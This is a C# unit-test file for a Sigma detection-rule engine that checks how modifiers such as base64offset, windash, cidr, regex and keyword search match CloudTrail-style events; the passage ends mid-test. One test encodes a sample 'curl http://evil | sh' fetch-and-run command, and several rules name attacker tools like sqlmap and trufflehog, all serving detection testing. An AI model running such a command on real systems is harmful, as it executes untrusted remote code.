using Firebreak.Detection.Sigma;

namespace Firebreak.Detection.Tests.Sigma;

public class ModifierTests
{
    [Theory]
    [InlineData("StopLogging", true)]
    [InlineData("stoplogging", true)]
    [InlineData("StopLoggingX", false)]
    public void PlainValue_MatchesWholeValueCaseInsensitively(string eventName, bool expected)
    {
        var set = SigmaTestRules.Detection("    sel:\n        eventName: StopLogging\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson($$"""{"eventName":"{{eventName}}"}"""));
    }

    [Theory]
    [InlineData("contains", "xxDeleteyy", true)]
    [InlineData("contains", "Remove", false)]
    [InlineData("startswith", "DeleteTrail", true)]
    [InlineData("startswith", "TrailDelete", false)]
    [InlineData("endswith", "TrailDelete", true)]
    [InlineData("endswith", "DeleteTrail", false)]
    public void PositionModifiers_PlaceWildcards(string modifier, string value, bool expected)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        eventName|{modifier}: delete\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson($$"""{"eventName":"{{value}}"}"""));
    }

    [Theory]
    [InlineData("a?c*", "abcdef", true)]
    [InlineData("a?c*", "acdef", false)]
    [InlineData("*lo*ing", "StopLogging", true)]
    [InlineData(@"Stop\*", "Stop*", true)]
    [InlineData(@"Stop\*", "StopLogging", false)]
    [InlineData(@"a\?", "a?", true)]
    [InlineData(@"a\?", "ab", false)]
    [InlineData(@"C:\Windows\*", @"C:\Windows*", true)]
    [InlineData(@"C:\Windows\*", @"C:\Windows\x", false)]
    [InlineData(@"C:\Win\dows\x*", @"C:\Win\dows\xyz", true)]
    [InlineData(@"back\\*", @"back\slash", true)]
    public void Wildcards_AndEscapes(string pattern, string value, bool expected)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        f: '{pattern}'\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = value })));
    }

    [Fact]
    public void All_RequiresEveryValue()
    {
        var set = SigmaTestRules.Detection("    sel:\n        f|contains|all:\n            - alpha\n            - beta\n    condition: sel");
        Assert.True(set.MatchesJson("""{"f":"beta then alpha"}"""));
        Assert.False(set.MatchesJson("""{"f":"alpha only"}"""));
    }

    [Fact]
    public void List_IsOr_Map_IsAnd()
    {
        var set = SigmaTestRules.Detection("    sel:\n        eventSource: iam.amazonaws.com\n        eventName:\n            - CreateUser\n            - CreateAccessKey\n    condition: sel");
        Assert.True(set.MatchesJson("""{"eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey"}"""));
        Assert.False(set.MatchesJson("""{"eventSource":"sts.amazonaws.com","eventName":"CreateAccessKey"}"""));
        Assert.False(set.MatchesJson("""{"eventSource":"iam.amazonaws.com","eventName":"DeleteUser"}"""));
    }

    [Fact]
    public void ListOfMaps_IsOrOfAnds()
    {
        var set = SigmaTestRules.Detection("    sel:\n        - a: 1\n          b: 2\n        - c: 3\n    condition: sel");
        Assert.True(set.MatchesJson("""{"a":1,"b":2}"""));
        Assert.True(set.MatchesJson("""{"c":"3"}"""));
        Assert.False(set.MatchesJson("""{"a":1,"b":3}"""));
    }

    [Theory]
    [InlineData("""{"f":"Abc"}""", true)]
    [InlineData("""{"f":"aBc"}""", false)]
    [InlineData("""{"f":"xAbcx"}""", false)]
    public void Cased_IsCaseSensitive(string json, bool expected)
    {
        var set = SigmaTestRules.Detection("    sel:\n        f|cased: Abc\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson(json));
    }

    [Theory]
    [InlineData("re", "^Get.*Value$", "GetSecretValue", true)]
    [InlineData("re", "^get.*value$", "GetSecretValue", false)]
    [InlineData("re|i", "^get.*value$", "GetSecretValue", true)]
    [InlineData("re", "^b$", "a\nb", false)]
    [InlineData("re|m", "^b$", "a\nb", true)]
    [InlineData("re", "a.b", "a\nb", false)]
    [InlineData("re|s", "a.b", "a\nb", true)]
    public void Regex_HonoursFlags(string modifiers, string pattern, string value, bool expected)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        f|{modifiers}: '{pattern}'\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = value })));
    }

    [Theory]
    [InlineData("10.1.2.3", true)]
    [InlineData("11.1.2.3", false)]
    [InlineData("192.168.7.200", true)]
    [InlineData("192.168.8.1", false)]
    [InlineData("2001:db8::1", true)]
    [InlineData("2001:db9::1", false)]
    [InlineData("not-an-ip", false)]
    [InlineData("::ffff:10.1.2.3", true)]
    // Forms the runtime's parser takes as inet_aton does: not addresses in a log, so not in the range.
    [InlineData("10.1", false)]
    [InlineData("167772161", false)]
    [InlineData("10.1.2", false)]
    [InlineData("010.1.2.3", false)]
    [InlineData("10.1.2.3.4", false)]
    [InlineData("10..2.3", false)]
    public void Cidr_MatchesIPv4AndIPv6Networks(string ip, bool expected)
    {
        var set = SigmaTestRules.Detection("    sel:\n        sourceIPAddress|cidr:\n            - 10.0.0.0/8\n            - 192.168.0.0/21\n            - 2001:db8::/32\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson($$"""{"sourceIPAddress":"{{ip}}"}"""));
    }

    [Theory]
    [InlineData("10/8")]
    [InlineData("10.0/16")]
    [InlineData("10.0.0.0/33")]
    public void Cidr_ARangeNotWrittenInFull_IsAnError(string cidr)
    {
        var parsed = SigmaParser.Parse($"title: c\nlogsource: {{product: aws, service: cloudtrail}}\ndetection:\n    sel:\n        sourceIPAddress|cidr: '{cidr}'\n    condition: sel\n", "c.yml");
        var set = CompiledRuleSet.Compile(parsed.Documents);

        Assert.Empty(set.Rules);
        Assert.Equal(DiagnosticSeverity.Error, Assert.Single(set.Diagnostics).Severity);
    }

    [Fact]
    public void Base64_MatchesEncodedValue()
    {
        var set = SigmaTestRules.Detection("    sel:\n        f|base64: secret\n    condition: sel");
        Assert.True(set.MatchesJson($$"""{"f":"{{Convert.ToBase64String("secret"u8.ToArray())}}"}"""));
        Assert.False(set.MatchesJson("""{"f":"secret"}"""));
    }

    [Theory]
    [InlineData("")]
    [InlineData("x")]
    [InlineData("xy")]
    [InlineData("a longer prefix, ")]
    public void Base64Offset_FindsValueAtAnyAlignment(string prefix)
    {
        var set = SigmaTestRules.Detection("    sel:\n        f|base64offset|contains: curl http\n    condition: sel");
        var encoded = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(prefix + "curl http://evil | sh"));
        Assert.True(set.MatchesJson($$"""{"f":"{{encoded}}"}"""));
        Assert.False(set.MatchesJson($$"""{"f":"{{Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(prefix + "wget http://ok"))}}"}"""));
    }

    [Theory]
    [InlineData("utf16le")]
    [InlineData("wide")]
    [InlineData("utf16be")]
    [InlineData("utf16")]
    public void Utf16Encodings_CombineWithBase64(string encoding)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        f|{encoding}|base64: cmd\n    condition: sel");
        byte[] bytes = encoding switch
        {
            "utf16be" => System.Text.Encoding.BigEndianUnicode.GetBytes("cmd"),
            "utf16" => [0xFF, 0xFE, .. System.Text.Encoding.Unicode.GetBytes("cmd")],
            _ => System.Text.Encoding.Unicode.GetBytes("cmd"),
        };
        Assert.True(set.MatchesJson($$"""{"f":"{{Convert.ToBase64String(bytes)}}"}"""));
        Assert.False(set.MatchesJson($$"""{"f":"{{Convert.ToBase64String("cmd"u8.ToArray())}}"}"""));
    }

    [Theory]
    [InlineData("run -enc x", true)]
    [InlineData("run /enc x", true)]
    [InlineData("run \u2013enc x", true)]
    [InlineData("run \u2014enc x", true)]
    [InlineData("run \u2015enc x", true)]
    [InlineData("run +enc x", false)]
    public void Windash_AcceptsEveryDashVariant(string value, bool expected)
    {
        var set = SigmaTestRules.Detection("    sel:\n        f|windash|contains: ' -enc '\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = value })));
    }

    [Theory]
    [InlineData("x -a -b -c -d -e", true)]
    [InlineData("x /a -b -c -d /e", true)]
    [InlineData("x \u2013a /b \u2014c -d \u2015e", true)]
    [InlineData("x -a -b -c -d +e", false)]
    public void Windash_VariesEveryFlag_NotOnlyTheFirstFour(string value, bool expected)
    {
        var set = SigmaTestRules.Detection("    sel:\n        f|windash|contains: 'x -a -b -c -d -e'\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = value })));
    }

    [Theory]
    [InlineData("x \"/enc abc", true)]
    [InlineData("x \"-enc abc", true)]
    [InlineData("run-as /user", true)]
    [InlineData("run/as /user", false)]
    public void Windash_VariesADashAfterAnyNonWordCharacter_ButNotInsideAWord(string value, bool expected)
    {
        var quoted = SigmaTestRules.Detection("    sel:\n        f|windash|contains:\n            - 'x \"-enc'\n            - 'run-as -user'\n    condition: sel");
        Assert.Equal(expected, quoted.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = value })));
    }

    [Theory]
    // `all` needs every value, each in any one of the spellings a modifier makes of it: every spelling of every value
    // was needed, so these never matched.
    [InlineData("f|windash|contains|all: ['-alpha', '-beta']", "x -alpha /beta y", true)]
    [InlineData("f|windash|contains|all: ['-alpha', '-beta']", "x \u2013alpha -beta y", true)]
    [InlineData("f|windash|contains|all: ['-alpha', '-beta']", "x -alpha y", false)]
    [InlineData("'|windash|all': ['-gamma', '-delta']", "run /gamma -delta", true)]
    [InlineData("'|windash|all': ['-gamma', '-delta']", "run /gamma", false)]
    [InlineData("f|expand|contains|all: ['%admins%', 'ops']", "role root-ops", true)]
    [InlineData("f|expand|contains|all: ['%admins%', 'ops']", "role break-glass ops", true)]
    [InlineData("f|expand|contains|all: ['%admins%', 'ops']", "role alice ops", false)]
    public void All_NeedsEveryValue_InAnyOfItsSpellings(string item, string value, bool expected)
    {
        var options = new SigmaCompileOptions { Placeholders = new Dictionary<string, IReadOnlyList<string>> { ["admins"] = ["break-glass", "root"] } };
        var selection = item.StartsWith('\'') ? $"    kw:\n        {item}\n    condition: kw" : $"    sel:\n        {item}\n    condition: sel";
        var set = SigmaTestRules.Detection(selection, options);
        Assert.Equal(expected, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = value })));
    }

    [Theory]
    [InlineData("xx secretvalue and othervalue1 yy", true)]
    [InlineData("secretvalue othervalue1", true)]
    [InlineData("  secretvalue only", false)]
    public void Base64Offset_WithAll_NeedsEveryValueAtAnyOffset(string decoded, bool expected)
    {
        var set = SigmaTestRules.Detection("    sel:\n        f|base64offset|contains|all: [secretvalue, othervalue1]\n    condition: sel");
        var encoded = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(decoded));
        Assert.Equal(expected, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = encoded })));
    }

    [Theory]
    // Encodings apply in the order written: every order was read as text encoding first, then base64.
    [InlineData("utf16le|base64", true, false)]
    [InlineData("base64|utf16le", false, true)]
    [InlineData("wide|base64offset|contains", true, false)]
    [InlineData("base64offset|wide|contains", false, true)]
    public void EncodingModifiers_ApplyInTheOrderWritten(string modifiers, bool matchesBase64OfUtf16, bool matchesUtf16OfBase64)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        f|{modifiers}: cmd.exe\n    condition: sel");
        var base64OfUtf16 = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("cmd.exe"));
        var utf16OfBase64 = System.Text.Encoding.Latin1.GetString(System.Text.Encoding.Unicode.GetBytes(Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes("cmd.exe"))));
        Assert.Equal(matchesBase64OfUtf16, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = base64OfUtf16 })));
        Assert.Equal(matchesUtf16OfBase64, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = utf16OfBase64 })));
    }

    [Fact]
    public void Windash_WithTooManyFlags_IsAnErrorNotAHang()
    {
        // Eight flags are 5^8 = 390,625 variants, past the cap: the variants must stop being made at the cap.
        var parsed = SigmaParser.Parse("title: Many flags\nlogsource:\n    product: aws\n    service: cloudtrail\ndetection:\n    sel:\n        f|windash|contains: '-a -b -c -d -e -f -g -h'\n    condition: sel\n", "w.yml");
        var (set, allocated) = Firebreak.Testing.HangGuard.Run(() =>
        {
            var before = GC.GetAllocatedBytesForCurrentThread();
            var compiled = CompiledRuleSet.Compile(parsed.Documents);
            return (compiled, GC.GetAllocatedBytesForCurrentThread() - before);
        }, "compiling");

        Assert.Empty(set.Rules);
        Assert.Contains("more than", Assert.Single(set.Diagnostics).Message, StringComparison.Ordinal);
        Assert.True(allocated < 200 << 20, $"{allocated >> 20} MB");
    }

    [Theory]
    [InlineData("""{"errorCode":"AccessDenied"}""", "true", true)]
    [InlineData("""{"errorCode":null}""", "true", true)]
    [InlineData("""{"other":1}""", "true", false)]
    [InlineData("""{"other":1}""", "false", true)]
    [InlineData("""{"errorCode":""}""", "false", false)]
    public void Exists_ChecksPresenceOnly(string json, string expected, bool result)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        errorCode|exists: {expected}\n    condition: sel");
        Assert.Equal(result, set.MatchesJson(json));
    }

    [Theory]
    // YAML 1.1's spellings of a boolean, which the Python tools most rules are written for read as one.
    [InlineData("yes", true)]
    [InlineData("Yes", true)]
    [InlineData("on", true)]
    [InlineData("no", false)]
    [InlineData("off", false)]
    [InlineData("True", true)]
    public void Exists_TakesEveryYamlSpellingOfABoolean(string spelled, bool exists)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        errorCode|exists: {spelled}\n    condition: sel");
        Assert.Equal(exists, set.MatchesJson("""{"errorCode":"AccessDenied"}"""));
        Assert.Equal(!exists, set.MatchesJson("""{"other":1}"""));
    }

    [Theory]
    [InlineData("maybe")]
    [InlineData("1")]
    [InlineData("'y'")]
    public void Exists_WithAnythingButABoolean_IsAnErrorOfTheRule(string value)
    {
        var parsed = SigmaParser.Parse($"title: e\nlogsource: {{product: aws, service: cloudtrail}}\ndetection:\n    sel:\n        errorCode|exists: {value}\n    condition: sel\n", "e.yml");
        var set = CompiledRuleSet.Compile(parsed.Documents);
        Assert.Empty(set.Rules);
        Assert.Contains("'exists' needs one value, true or false", Assert.Single(set.Diagnostics).Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("""{"errorCode":null}""", true)]
    [InlineData("""{"other":1}""", true)]
    [InlineData("""{"errorCode":""}""", false)]
    [InlineData("""{"errorCode":"x"}""", false)]
    public void Null_MatchesMissingOrNull(string json, bool expected)
    {
        var set = SigmaTestRules.Detection("    sel:\n        errorCode: null\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson(json));
    }

    [Theory]
    [InlineData("""{"errorCode":""}""", true)]
    [InlineData("""{"errorCode":null}""", false)]
    [InlineData("""{"errorCode":"x"}""", false)]
    public void EmptyString_MatchesOnlyEmpty(string json, bool expected)
    {
        var set = SigmaTestRules.Detection("    sel:\n        errorCode: ''\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson(json));
    }

    [Theory]
    [InlineData("""{"userIdentity":{"type":"IAMUser"}}""", true)]
    [InlineData("""{"userIdentity":{"type":"Root"}}""", false)]
    [InlineData("""{"userIdentity":{"type":"root"}}""", false)]
    // A missing or null field equals none of the values: neq is the item's negation, as pySigma writes it for every back
    // end (NOT field=value), and as `not` around the plain item is here.
    [InlineData("""{"userIdentity":{}}""", true)]
    [InlineData("""{"userIdentity":{"type":null}}""", true)]
    [InlineData("""{"eventName":"ConsoleLogin"}""", true)]
    public void Neq_RequiresFieldDifferentFromAllValues(string json, bool expected)
    {
        var set = SigmaTestRules.Detection("    sel:\n        userIdentity.type|neq:\n            - Root\n            - AWSService\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson(json));
    }

    [Theory]
    [InlineData("lt", "5", false)]
    [InlineData("lt", "4", true)]
    [InlineData("lte", "5", true)]
    [InlineData("gt", "5", false)]
    [InlineData("gt", "6", true)]
    [InlineData("gte", "5", true)]
    [InlineData("gte", "4.5", false)]
    public void NumericModifiers_CompareNumbers(string op, string value, bool expected)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        n|{op}: 5\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson($$"""{"n":{{value}}}"""));
        Assert.Equal(expected, set.MatchesJson($$"""{"n":"{{value}}"}"""));
    }

    [Fact]
    public void NumericModifiers_IgnoreNonNumbers()
    {
        var set = SigmaTestRules.Detection("    sel:\n        n|gte: 5\n    condition: sel");
        Assert.False(set.MatchesJson("""{"n":"many"}"""));
        // Words the runtime would read as numbers are none in JSON.
        Assert.False(set.MatchesJson("""{"n":"Infinity"}"""));
        Assert.False(set.MatchesJson("""{"n":"∞"}"""));
        // A number too large for a double is still a number, larger than any other; spaces around one are allowed.
        Assert.True(set.MatchesJson("""{"n":1e400}"""));
        Assert.True(set.MatchesJson("""{"n":"1e400"}"""));
        Assert.True(set.MatchesJson("""{"n":" 12 "}"""));
    }

    [Theory]
    // '?' stands for one character; a character outside the Basic Multilingual Plane is two UTF-16 code units.
    [InlineData("bucket-?", "bucket-😀", true)]
    [InlineData("bucket-??", "bucket-😀", false)]
    [InlineData("*-?", "bucket-😀", true)]
    [InlineData("*?x", "😀x", true)]
    [InlineData("?x", "😀😀x", false)]
    public void QuestionMark_IsOneCharacter_EvenOutsideTheBasicPlane(string pattern, string value, bool expected)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        n: '{pattern}'\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson($$"""{"n":"{{value}}"}"""));
    }

    [Fact]
    public void All_WithASingleValue_IsAWarning_AndMeansTheValueAlone()
    {
        // The specification does not allow it; the rule still runs, as the value alone.
        var parsed = SigmaParser.Parse("title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  sel:\n    eventName|contains|all: CreateUser\n  condition: sel\n", "one.yml");
        var set = CompiledRuleSet.Compile(parsed.Documents);

        var warning = Assert.Single(set.Diagnostics);
        Assert.Equal(DiagnosticSeverity.Warning, warning.Severity);
        Assert.Contains("'all' with a single value", warning.Message);
        Assert.Equal(5, warning.Line);
        Assert.NotEmpty(set.Match(TestEvents.Aws("""{"eventName":"CreateUserX"}""")));
    }

    [Fact]
    public void All_WithAnEmptyList_IsNullWithoutTheSingleValueWarning()
    {
        // An empty list is null (as pySigma reads it), not a value written alone under 'all'.
        var parsed = SigmaParser.Parse("title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  sel:\n    errorCode|all: []\n  condition: sel\n", "empty.yml");
        var set = CompiledRuleSet.Compile(parsed.Documents);

        Assert.Empty(parsed.Diagnostics);
        Assert.DoesNotContain(set.Diagnostics, d => d.Message.Contains("single value", StringComparison.Ordinal));
        Assert.NotEmpty(set.Match(TestEvents.Aws("""{"eventName":"CreateUser"}""")));
        Assert.Empty(set.Match(TestEvents.Aws("""{"eventName":"CreateUser","errorCode":"AccessDenied"}""")));
    }

    [Theory]
    // A number in the event equals the rule's number however it is written; CloudTrail writes counters as 0.0.
    [InlineData("5.0", true)]
    [InlineData("5e0", true)]
    [InlineData("5", true)]
    [InlineData("5.5", false)]
    [InlineData("\"5.0\"", false)]
    // Integers are compared as written: a double holds no more than 15 or so digits.
    [InlineData("9007199254740992", false)]
    public void Equality_OfANumber_IsByValue_AndNeqFollows(string value, bool equal)
    {
        var expected = value.Length > 10 ? "9007199254740993" : "5";
        var equals = SigmaTestRules.Detection($"    sel:\n        n: {expected}\n    condition: sel");
        var differs = SigmaTestRules.Detection($"    sel:\n        n|neq: {expected}\n    condition: sel");
        var inList = SigmaTestRules.Detection($"    sel:\n        n:\n            - 7\n            - {expected}\n    condition: sel");
        Assert.Equal(equal, equals.MatchesJson($$"""{"n":{{value}}}"""));
        Assert.Equal(!equal, differs.MatchesJson($$"""{"n":{{value}}}"""));
        Assert.Equal(equal, inList.MatchesJson($$"""{"n":{{value}}}"""));
    }

    [Theory]
    // Two whole numbers are compared as written, as equality compares them: as doubles, 2^53 + 1 read as 2^53.
    [InlineData("gt", "9007199254740992", "9007199254740993", true)]
    [InlineData("gte", "9007199254740993", "\"9007199254740992\"", false)]
    [InlineData("lt", "9007199254740993", "9007199254740992", true)]
    [InlineData("lte", "-9007199254740993", "-9007199254740992", false)]
    // A fraction on either side is compared as a double.
    [InlineData("gt", "5", "5.5", true)]
    [InlineData("lt", "5.5", "5", true)]
    public void NumericModifiers_CompareWholeNumbersExactly(string op, string rule, string value, bool expected)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        n|{op}: {rule}\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson($$"""{"n":{{value}}}"""));
    }

    [Theory]
    // A regular expression is searched for anywhere in the value: with contains it means what it means alone; startswith
    // and endswith anchor the whole expression (an alternation too) to the value's start or end, as pySigma writes them.
    [InlineData("re|contains", "'a.c'", "xxabcxx", true)]
    [InlineData("re|startswith", "'a.c'", "xxabcxx", false)]
    [InlineData("re|startswith", "'a.c'", "abcxx", true)]
    [InlineData("re|startswith", "'a.c|zz'", "xxzz", false)]
    [InlineData("re|endswith", "'a.c|zz'", "xxzz", true)]
    [InlineData("re|endswith", "'a.c|zz'", "zzx", false)]
    [InlineData("re|endswith|i", "'A.C'", "xxabc", true)]
    // pySigma's long names of the flags.
    [InlineData("re|ignorecase", "'^AWS'", "aws-cli", true)]
    [InlineData("re|dotall", "'a.c'", "a\\nc", true)]
    [InlineData("re", "'a.c'", "a\\nc", false)]
    // PCRE's classes, as the specification's flavour reads them: \d, \w and \s are ASCII only.
    [InlineData("re", "'^\\d+$'", "34", true)]
    [InlineData("re", "'^\\d+$'", "\u0663\u0664", false)]
    [InlineData("re", "'^[a-z]+\\s\\d$'", "ab\u00A05", false)]
    [InlineData("re", "'^[a-z]+\\s\\d$'", "ab 5", true)]
    [InlineData("re", "'^\\w+$'", "caf\u00E9", false)]
    [InlineData("re", "'^[\\w.-]+$'", "a.b-c_9", true)]
    [InlineData("re", "'^\\D+$'", "\u0663", true)]
    [InlineData("re", "'^\\\\d$'", "\\\\d", true)]
    public void Regex_WithAPlacement_OrAFlagsLongName(string modifiers, string pattern, string value, bool expected)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        userAgent|{modifiers}: {pattern}\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson($$"""{"userAgent":"{{value}}"}"""));
    }

    [Fact]
    public void FieldRef_ComparesTwoFields()
    {
        var set = SigmaTestRules.Detection("    sel:\n        requestParameters.userName|fieldref: userIdentity.userName\n    condition: sel");
        Assert.True(set.MatchesJson("""{"requestParameters":{"userName":"alice"},"userIdentity":{"userName":"ALICE"}}"""));
        Assert.False(set.MatchesJson("""{"requestParameters":{"userName":"bob"},"userIdentity":{"userName":"alice"}}"""));
    }

    [Fact]
    public void FieldRef_WithNeq_MatchesDifferentValues()
    {
        var set = SigmaTestRules.Detection("    sel:\n        requestParameters.userName|fieldref|neq: userIdentity.userName\n    condition: sel");
        Assert.False(set.MatchesJson("""{"requestParameters":{"userName":"alice"},"userIdentity":{"userName":"alice"}}"""));
        Assert.True(set.MatchesJson("""{"requestParameters":{"userName":"bob"},"userIdentity":{"userName":"alice"}}"""));
    }

    [Fact]
    public void Expand_UsesConfiguredPlaceholderValues()
    {
        var options = new SigmaCompileOptions
        {
            Placeholders = new Dictionary<string, IReadOnlyList<string>> { ["admin_accounts"] = ["break-glass", "root-ops"] },
        };
        var set = SigmaTestRules.Detection("    sel:\n        userIdentity.userName|expand: '%admin_accounts%'\n    condition: sel", options);
        Assert.True(set.MatchesJson("""{"userIdentity":{"userName":"root-ops"}}"""));
        Assert.False(set.MatchesJson("""{"userIdentity":{"userName":"alice"}}"""));
    }

    [Fact]
    public void Expand_ConfiguredWithNoValues_NeverMatches()
    {
        // Configured, but with an empty list: the rule is loaded and the item matches nothing.
        var options = new SigmaCompileOptions { Placeholders = new Dictionary<string, IReadOnlyList<string>> { ["nobody"] = [] } };
        var set = SigmaTestRules.Detection("    sel:\n        u|expand: '%nobody%'\n    condition: sel", options);
        Assert.Single(set.Rules);
        Assert.False(set.MatchesJson("""{"u":"%nobody%"}"""));
    }

    [Theory]
    [InlineData("hour|gte: 22", "2026-03-01T23:10:00Z", true)]
    [InlineData("hour|gte: 22", "2026-03-01T08:10:00Z", false)]
    [InlineData("month: 3", "2026-03-01T08:10:00Z", true)]
    [InlineData("year: 2025", "2026-03-01T08:10:00Z", false)]
    public void TimeModifiers_ExtractComponents(string item, string time, bool expected)
    {
        var set = SigmaTestRules.Detection($"    sel:\n        eventTime|{item}\n    condition: sel");
        Assert.Equal(expected, set.MatchesJson($$"""{"eventTime":"{{time}}"}"""));
    }

    [Fact]
    public void Keywords_SearchEveryStringInTheRecord()
    {
        var set = SigmaTestRules.Detection("    keywords:\n        - 'S3 Browser'\n        - trufflehog\n    condition: keywords");
        Assert.True(set.MatchesJson("""{"userAgent":"S3 Browser 11.5","eventName":"ListBuckets"}"""));
        Assert.True(set.MatchesJson("""{"requestParameters":{"tags":["x","TruffleHog v3"]}}"""));
        Assert.False(set.MatchesJson("""{"userAgent":"aws-cli/2"}"""));
    }

    [Fact]
    public void Arrays_OnThePath_FanOut()
    {
        var set = SigmaTestRules.Detection("    sel:\n        targetResources.modifiedProperties.newValue|contains: Owner\n    condition: sel",
            logsource: "product: azure\n    service: auditlogs");
        var e = TestEvents.Create("""{"targetResources":[{"modifiedProperties":[{"newValue":"Reader"}]},{"modifiedProperties":[{"newValue":"x"},{"newValue":"\"Owner\""}]}]}""", "azure", "auditlogs");
        Assert.True(set.Matches(e));
        var other = TestEvents.Create("""{"targetResources":[{"modifiedProperties":[{"newValue":"Reader"}]}]}""", "azure", "auditlogs");
        Assert.False(set.Matches(other));
    }

    [Fact]
    public void EscapedJsonStrings_AreDecodedBeforeMatching()
    {
        var set = SigmaTestRules.Detection("    sel:\n        f: 'a\"b'\n    condition: sel");
        Assert.True(set.MatchesJson("""{"f":"a\"b"}"""));
        Assert.True(set.MatchesJson("""{"f":"a\u0022b"}"""));
    }

    [Fact]
    public void NumbersAndBooleans_MatchTheirTextForm()
    {
        var set = SigmaTestRules.Detection("    sel:\n        additionalEventData.MFAUsed: 'No'\n        responseElements.enabled: true\n        code: 404\n    condition: sel");
        Assert.True(set.MatchesJson("""{"additionalEventData":{"MFAUsed":"No"},"responseElements":{"enabled":true},"code":404}"""));
        Assert.False(set.MatchesJson("""{"additionalEventData":{"MFAUsed":"No"},"responseElements":{"enabled":false},"code":404}"""));
    }
}

public class KeywordAndPlaceholderEdgeTests
{
    [Fact]
    public void KeywordsWithAll_RequireEveryKeyword()
    {
        var set = SigmaTestRules.Detection("    keywords:\n        '|all':\n            - S3 Browser\n            - CreateUser\n    condition: keywords");
        Assert.True(set.MatchesJson("""{"userAgent":"S3 Browser 10","eventName":"CreateUser"}"""));
        Assert.False(set.MatchesJson("""{"userAgent":"S3 Browser 10","eventName":"ListBuckets"}"""));
    }

    [Theory]
    // The rule's text and the inserted value are patterns apart: a value ending in a backslash does not escape the
    // rule's wildcard after it (joined as text, C:\Tools\* read as a literal star).
    [InlineData("'%dir%*'", "C:\\Tools\\evil.exe", true)]
    [InlineData("'%dir%*'", "C:\\Toolsevil.exe", false)]
    // An escaped backslash before a placeholder is a backslash, and the placeholder is still filled.
    [InlineData("'x\\\\%dir%'", "x\\C:\\Tools\\", true)]
    // An odd run of backslashes escapes the percent sign.
    [InlineData("'x\\\\\\%dir%'", "x\\%dir%", true)]
    public void Expand_TheRulesTextAndTheValue_AreReadApart(string rule, string value, bool matches)
    {
        var options = new SigmaCompileOptions { Placeholders = new Dictionary<string, IReadOnlyList<string>> { ["dir"] = ["C:\\Tools\\"] } };
        var set = SigmaTestRules.Detection($"    sel:\n        f|expand: {rule}\n    condition: sel", options);
        Assert.Equal(matches, set.MatchesJson(System.Text.Json.JsonSerializer.Serialize(new { f = value })));
    }

    [Theory]
    // All makes every value of the list hold, null among them: "f is null and contains alpha" never holds.
    [InlineData("""{"other":"x"}""", false)]
    [InlineData("""{"f":null}""", false)]
    [InlineData("""{"f":"alpha"}""", false)]
    public void All_WithNullAmongTheValues_IsStillAnAnd(string record, bool matches)
    {
        var all = SigmaTestRules.Detection("    sel:\n        f|contains|all:\n            - alpha\n            - null\n    condition: sel");
        var any = SigmaTestRules.Detection("    sel:\n        f|contains:\n            - alpha\n            - null\n    condition: sel");
        Assert.Equal(matches, all.MatchesJson(record));
        Assert.True(any.MatchesJson(record) || record.Contains("other", StringComparison.Ordinal));
    }

    [Fact]
    public void Expand_EscapedPercent_IsLiteral()
    {
        var options = new SigmaCompileOptions
        {
            Placeholders = new Dictionary<string, IReadOnlyList<string>> { ["name"] = ["svc"] },
        };
        var set = SigmaTestRules.Detection("    sel:\n        f|expand: '\\%plain%name%'\n    condition: sel", options);
        Assert.True(set.MatchesJson("""{"f":"%plainsvc"}"""));
        Assert.False(set.MatchesJson("""{"f":"\\%plainsvc"}"""));
    }

    [Fact]
    public void Keywords_WithARegex_MatchAnyValueByTheRegex()
    {
        var set = SigmaTestRules.Detection("    keywords:\n        '|re': 'sqlmap/[0-9]'\n    condition: keywords");
        Assert.True(set.MatchesJson("""{"userAgent":"sqlmap/1.7 (https://sqlmap.org)"}"""));
        Assert.False(set.MatchesJson("""{"userAgent":"sqlmap/[0-9]"}"""));
    }

    [Fact]
    public void Keywords_FindNumbersToo()
    {
        var set = SigmaTestRules.Detection("    keywords:\n        - '48213'\n    condition: keywords");
        Assert.True(set.MatchesJson("""{"requestParameters":{"port":48213}}"""));
        Assert.True(set.MatchesJson("""{"requestParameters":{"port":"48213"}}"""));
        Assert.False(set.MatchesJson("""{"requestParameters":{"port":48214}}"""));
    }

    [Fact]
    public void Keywords_FindFlagsToo()
    {
        // A search of the log's text finds "true" in {"enabled":true}; the keyword search looks at the same values.
